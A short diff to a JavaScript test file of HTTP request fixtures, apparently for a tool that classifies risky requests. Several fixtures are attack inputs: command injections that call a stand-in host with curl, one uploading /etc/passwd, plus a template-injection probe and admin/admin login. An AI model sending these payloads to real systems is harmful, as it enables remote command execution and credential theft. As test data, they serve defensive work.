@@ -32,6 +32,7 @@ describe("a request is a change that", () => {
       "leaves its action to a body that acts",
       ["POST", "/soap", "<a:Envelope><a:deleteUser>1</a:deleteUser></a:Envelope>", { SOAPAction: "" }],
     ],
+    ["switches beside a proof", ["POST", "/mgr.cgi", "C1=ON&server=`curl http://p.calls.example.net`", FORM]],
     ["upgrades its protocol", ["GET", "/?name={{1337*42}}", "", { Upgrade: "h2c" }]],
     ["sends a file out", ["GET", "/a?host=;curl -T /etc/passwd http://p.calls.example.net"]],
     ["logs in", ["POST", "/login", "username=admin&password=admin", FORM]],
